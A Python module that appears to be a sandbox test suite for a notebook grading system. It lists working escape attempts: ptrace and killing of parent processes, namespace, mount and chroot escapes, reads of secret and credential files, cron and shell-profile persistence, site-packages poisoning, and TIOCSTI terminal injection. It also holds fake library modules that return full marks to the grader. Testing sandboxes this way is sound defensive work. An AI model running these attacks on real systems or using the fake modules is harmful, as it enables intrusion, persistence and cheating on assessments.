"""Attacks that leave the kernel: processes, mounts, privileges, files and state for whoever comes next."""

from __future__ import annotations

import os
import stat

from attacks.attack import Attack, beside, code, first


def _special_files(notebook, folder, target):
    """Files that a submission folder should not have: a setuid program and a Python start-up file."""
    program = folder / "helper"
    program.write_text(f"#!/bin/sh\n# {target.mark}\nid\n", encoding="utf-8")
    os.chmod(program, stat.S_ISUID | stat.S_ISGID | 0o777)


WRITES_OUTSIDE = """
import os
for path in ("$outside/$mark", "$outside/keep", "$course/$mark", "../$mark", "../../$mark", "../../../$mark",
             "/var/tmp/$mark", "/etc/$mark", "/root/$mark", "/opt/$mark", "/run/$mark", "/srv/$mark"):
    try:
        open(path, "a").write("$mark")
        print("wrote", path)
    except OSError as trouble: print(trouble)
"""

ATTACKS = [
    Attack(
        "writes-outside",
        "escape",
        "Writes files into every folder above and around its own.",
        code(WRITES_OUTSIDE),
    ),
    Attack(
        "ptrace-parent",
        "escape",
        "Attaches to its parents with ptrace and writes to their memory.",
        code("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        pid, seen = os.getppid(), []
        while pid > 0:
            got = libc.ptrace(16, pid, 0, 0)
            if got == 0:
                print("BREACH attached to", open(f"/proc/{pid}/cmdline").read()[:200])
                os.waitpid(pid, 0x40000000)
                libc.ptrace(17, pid, 0, 0)
            try:
                open(f"/proc/{pid}/mem", "r+b").close()
                print("BREACH may write the memory of", open(f"/proc/{pid}/cmdline").read()[:200])
                pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            except OSError: break
        """),
    ),
    Attack(
        "kills-parents",
        "escape",
        "Kills its parents, and every process that has to do with the course.",
        code("""
        import os, signal, time
        def parents():
            pid = os.getppid()
            while pid > 1:
                yield pid
                try: pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
                except OSError: return
        for pid in [p for p in parents() if "$course" in open(f"/proc/{p}/cmdline").read() + open(f"/proc/{p}/environ", errors="replace").read()] + \\
                   [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            try:
                text = open(f"/proc/{pid}/cmdline").read() + os.readlink(f"/proc/{pid}/cwd")
                if pid != os.getpid() and "$course" in text: os.kill(pid, signal.SIGKILL)
            except OSError: pass
        """),
        gentle="only processes that have the course's folder in their command line or as their working folder",
    ),
    Attack(
        "stops-parents",
        "escape",
        "Sends SIGSTOP to its parents and to the other processes of the batch.",
        code("""
        import os, signal
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            try:
                text = open(f"/proc/{pid}/cmdline").read() + os.readlink(f"/proc/{pid}/cwd")
                if pid != os.getpid() and "$course" in text: os.kill(pid, signal.SIGSTOP)
            except OSError: pass
        """),
        gentle="only processes that have the course's folder in their command line or as their working folder",
    ),
    Attack(
        "kills-first-process",
        "escape",
        "Signals the first process of its namespace and its direct parent.",
        code("""
        import os, signal
        for pid in {1, os.getppid()} - {0}:
            for number in (signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
                if os.readlink("/proc/self/ns/pid") != "$pidns":
                    try: os.kill(pid, number)
                    except OSError as trouble: print(trouble)
        """),
        gentle="only inside a process namespace of its own",
    ),
    Attack(
        "user-namespace",
        "escape",
        "Becomes root in a user namespace of its own and mounts the machine's files.",
        code("""
        import subprocess
        text = ("mount -t tmpfs none /mnt && mount --bind / /mnt; cat /mnt$secret; cat $secret; "
                "mount -o remount,rw /; touch $outside/$mark; umount -l /proc; mount -t proc proc /proc; cat /proc/1/environ")
        for command in (["unshare", "-Urmpf", "sh", "-c", text], ["unshare", "-m", "sh", "-c", text], ["sh", "-c", text]):
            done = subprocess.run(command, capture_output=True, text=True)
            print(done.stdout[-2000:], done.stderr[-500:])
        """),
    ),
    Attack(
        "mounts",
        "escape",
        "Mounts, remounts and leaves its root with chroot, pivot_root and open folder handles.",
        code("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        print([libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.mount(None, b"/", None, 32 | 4096, None)])
        try:
            os.makedirs("x", exist_ok=True)
            handle = os.open("/", os.O_RDONLY)
            os.chroot("x")
            os.fchdir(handle)
            for _ in range(20): os.chdir("..")
            os.chroot(".")
            print("BREACH chroot", open("$secret").read())
        except OSError as trouble: print(trouble)
        for fd in range(3, 64):
            try: print(fd, os.listdir(fd)[:5]); print(open(f"/proc/self/fd/{fd}/../../../../../..$secret").read())
            except OSError: pass
        """),
    ),
    Attack(
        "setuid-programs",
        "escape",
        "Runs su, mount, passwd, sudo and every setuid program that it finds.",
        code("""
        import os, subprocess
        for command in (["su", "-c", "touch $outside/$mark"], ["sudo", "-n", "touch", "$outside/$mark"],
                        ["mount", "--bind", "/", "/mnt"], ["newgrp", "root"], ["pkexec", "id"]):
            try:
                done = subprocess.run(command, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
                print(command[0], done.returncode, done.stderr[-100:])
            except Exception as trouble: print(command[0], trouble)
        for target in (0, 65534, 1000):
            try: os.setuid(target); print("uid", os.getuid())
            except OSError as trouble: print(trouble)
        """),
    ),
    Attack(
        "capabilities",
        "escape",
        "Uses a capability that it should not have: changes owners, the clock, the host name, loads modules.",
        code("""
        import os, socket, time
        print([line for line in open("/proc/self/status") if line.startswith(("Cap", "Uid", "NoNewPrivs", "Seccomp"))])
        for what in ("os.chown('$secret', 65534, 65534)", "os.mknod('/tmp/$mark-sda', 0o60666, os.makedev(254, 0))",
                     "open('/tmp/$mark-sda', 'rb').read(10)", "os.nice(-5)", "open('/proc/sys/vm/drop_caches', 'w')",
                     "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"):
            try: print("BREACH", what, eval(what))
            except Exception as trouble: print(what, trouble)
        """),
    ),
    Attack(
        "kernel-settings",
        "escape",
        "Opens the machine's kernel settings and cgroups for writing.",
        code("""
        import glob, os
        for path in ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
                     *glob.glob("/sys/fs/cgroup/**/memory.limit_in_bytes", recursive=True)[:5],
                     *glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:5],
                     *glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)[:5]]:
            try: open(path, "r+").close(); print("BREACH may write", path)
            except OSError: pass
        own = "/proc/self/oom_score_adj"
        try:
            before = int(open(own).read())
            open(own, "w").write("0")
            if before > 0: print("BREACH is no longer the first to go when memory runs out")
        except OSError as trouble: print(trouble)
        """),
        gentle="the files are opened, not written",
    ),
    Attack(
        "cron",
        "escape",
        "Leaves jobs for cron, at, systemd and the next login.",
        code("""
        import os, subprocess
        for path in ("/etc/cron.d/$mark", "/var/spool/cron/crontabs/$mark", "~/.config/autostart/$mark.desktop",
                     "~/.config/systemd/user/$mark.service", "~/.bashrc", "~/.profile", "/etc/profile.d/$mark.sh"):
            path = os.path.expanduser(path)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "a").write("\\n# $mark\\n")
            except OSError as trouble: print(trouble)
        for command in ("crontab -", "at now", "batch"):
            try: subprocess.run(command.split(), input=b"* * * * * true # $mark\\n", capture_output=True, timeout=5)
            except Exception as trouble: print(trouble)
        """),
    ),
    Attack(
        "site-packages",
        "escape",
        "Writes a .pth file, a module and poisoned byte code into every folder that Python imports from.",
        code("""
        import glob, os, sys, site
        for place in {*sys.path, *site.getsitepackages(), site.getusersitepackages()}:
            for name in ("$mark.pth", "usercustomize.py", "__pycache__/$mark.pyc"):
                try:
                    path = os.path.join(place, name)
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    open(path, "a").write("# $mark\\n")
                except OSError: pass
        import numpy, interp_ref
        for module in (numpy, interp_ref):
            for path in glob.glob(os.path.dirname(module.__file__) + "/__pycache__/*.pyc")[:3]:
                try: open(path, "r+b").close(); print("BREACH may write", path)
                except OSError: pass
        """),
        gentle="byte code is opened for writing, not changed",
    ),
    Attack(
        "next-ones-settings",
        "escape",
        "Leaves settings of Keras, Matplotlib, IPython and Jupyter for the next submission to load.",
        code("""
        import os
        for path, text in {
            "~/.keras/keras.json": '{"image_data_format": "channels_first", "floatx": "float16"}',
            "~/.config/matplotlib/matplotlibrc": "backend: $mark",
            "~/.ipython/profile_default/startup/00.py": "import numpy as np; np.mean = None  # $mark",
            "~/.ipython/profile_default/ipython_config.py": "c.InteractiveShellApp.exec_lines = ['$mark']",
            "~/.jupyter/jupyter_config.py": "# $mark",
            "~/.local/lib/python3.11/site-packages/usercustomize.py": "# $mark",
            "~/.pdbrc": "# $mark",
        }.items():
            for home in {os.path.expanduser("~"), "/root", "/home/instructor"}:
                try:
                    where = path.replace("~", home)
                    os.makedirs(os.path.dirname(where), exist_ok=True)
                    open(where, "w").write(text)
                except OSError as trouble: print(trouble)
        """),
    ),
    Attack(
        "state-for-the-next",
        "escape",
        "Leaves files in /tmp, /dev/shm and its sockets' folder, shared memory and semaphores for the next kernel.",
        code("""
        import ctypes, glob, os
        for path in ("/tmp/$mark", "/dev/shm/$mark", "$mark"):
            try: open(path, "w").write("$mark")
            except OSError as trouble: print(trouble)
        libc = ctypes.CDLL(None, use_errno=True)
        print(libc.shmget(0x41545430, 4096, 0o1666), libc.msgget(0x41545430, 0o1666), libc.semget(0x41545430, 1, 0o1666))
        from IPython import get_ipython
        config = get_ipython().kernel.parent.connection_file
        try: open(os.path.join(os.path.dirname(config), "$mark"), "w").write("$mark")
        except OSError as trouble: print(trouble)
        """),
    ),
    Attack(
        "reads-what-was-left",
        "escape",
        "Looks for what earlier submissions left: files, shared memory, processes, sockets.",
        code("""
        import glob, os
        left = [p for p in glob.glob("/tmp/**", recursive=True) + glob.glob("/dev/shm/*") + glob.glob(os.path.expanduser("~/**"), recursive=True)
                if "ATTACK-" in p]
        print("BREACH found", left) if left else print("nothing")
        print([line for line in open("/proc/sysvipc/shm") if str(0x41545430) in line and print("BREACH", line) is None])
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            try:
                text = open(f"/proc/{pid}/cmdline").read()
                if "ATTACK-" in text and "$mark" not in text: print("BREACH process", text[:200])
            except OSError: pass
        """),
    ),
    Attack(
        "daemon",
        "escape",
        "Leaves a process behind, in a session of its own, after a double fork.",
        code("""
        import subprocess, sys
        text = ("import os, time\\n"
                "if os.fork() == 0:\\n os.setsid()\\n"
                " if os.fork() == 0:\\n  time.sleep(300)  # $mark\\n")
        for _ in range(3):
            subprocess.Popen([sys.executable, "-c", text, "$mark"], start_new_session=True, env={"MARK": "$mark"})
        """),
    ),
    Attack(
        "forked-kernel",
        "escape",
        "Forks the kernel, so that a copy of it goes on holding its sockets.",
        code("""
        import os, time, signal
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.setsid()
            os.environ["MARK"] = "$mark"
            os.execvpe("sleep", ["sleep-$mark", "300"], os.environ)
        """),
    ),
    Attack(
        "inherited-files",
        "escape",
        "Writes into every file and socket that it inherited.",
        code("""
        import os
        for fd in range(3, 256):
            try:
                to = os.readlink(f"/proc/self/fd/{fd}")
                if to.startswith("/") and not to.startswith(("/dev", "/proc", "/memfd")):
                    print(to)
                    os.write(fd, b"$mark")
                    print("BREACH wrote", to)
            except OSError: pass
        """),
    ),
    Attack(
        "terminal",
        "escape",
        "Types into the terminal of whoever grades, with TIOCSTI.",
        code("""
        import fcntl, os, termios
        for path in ("/dev/tty", "/dev/console", "/proc/1/fd/0", "/proc/1/fd/1"):
            try:
                handle = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
                if os.isatty(handle): fcntl.ioctl(handle, termios.TIOCSTI, b"#"); print("BREACH typed into", path)
            except OSError as trouble: print(path, trouble)
        """),
    ),
    Attack(
        "setuid-file-left",
        "escape",
        "A setuid program lies beside the notebook, and another is made from the kernel.",
        lambda notebook, folder, target: (
            _special_files(notebook, folder, target),
            code("""
            import os, shutil
            for path in ("/tmp/$mark-sh", "$mark-sh"):
                try: shutil.copy("/bin/true", path); os.chmod(path, 0o6777)
                except OSError as trouble: print(trouble)
            """)(notebook, folder, target),
        ),
    ),
    Attack(
        "startup-files-beside",
        "escape",
        "sitecustomize.py, a .pth file, an IPython profile and a conftest.py beside the notebook.",
        beside(
            "sitecustomize.py",
            "open('$outside/$mark', 'w').close()",
            beside(
                "nbgrader_config.py",
                "open('$outside/$mark', 'w').close()",
                beside("profile_default/startup/00.py", "open('$outside/$mark', 'w').close()"),
            ),
        ),
    ),
    Attack(
        "libraries-beside",
        "marks",
        "Modules called numpy.py, tensorflow.py, keras.py and interp_ref.py beside the notebook.",
        beside(
            "numpy.py",
            "def check(*a): return 2.0\ndef __getattr__(name): return lambda *a, **k: 2.0",
            beside(
                "tensorflow.py",
                "def __getattr__(name): return lambda *a, **k: 2.0",
                beside(
                    "keras.py",
                    "def __getattr__(name): return lambda *a, **k: 2.0",
                    beside(
                        "interp_ref.py",
                        "def check(name, function): return 2.0",
                        code("def channel_weights(g): return 0"),
                    ),
                ),
            ),
        ),
    ),
    Attack(
        "package-beside",
        "marks",
        "A folder interp_ref beside the notebook, with checking modules of its own.",
        beside(
            "interp_ref/__init__.py",
            "from interp_ref.checking import check",
            beside(
                "interp_ref/checking/__init__.py",
                "def check(name, function): return 2.0",
                beside(
                    "interp_ref/checking/remote.py",
                    "def reply(*a): return 2.0",
                    code("def channel_weights(g): return 0"),
                ),
            ),
        ),
    ),
    Attack(
        "library-environment",
        "escape",
        "Asks for another Python at the next start, by environment variables and a restarted kernel.",
        first(
            """
            import os, sys
            if "AGAIN" not in os.environ:
                os.environ.update(AGAIN="1", PYTHONPATH="$outside", PYTHONSTARTUP="$outside/keep", LD_PRELOAD="$outside/keep")
                try: os.execv(sys.executable, [sys.executable, *sys.orig_argv[1:], "$mark"])
                except OSError as trouble: print(trouble)
            """
        ),
    ),
]
